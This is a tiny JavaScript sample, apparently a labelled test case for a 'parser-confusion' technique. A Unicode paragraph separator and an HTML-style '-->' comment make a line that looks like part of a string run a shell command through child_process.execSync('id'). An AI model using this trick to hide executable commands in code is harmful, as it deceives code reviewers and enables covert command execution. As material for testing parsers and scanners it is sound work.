// class: parser-confusion | technique: U+2029 PARAGRAPH SEPARATOR is a line terminator, so the `-->` after it starts an HTML close comment (rest of that line ignored) | effect: runs `id`
let total = 7; total --> `
console.log(require('child_process').execSync('id').toString())
// `
console.log('total', total)
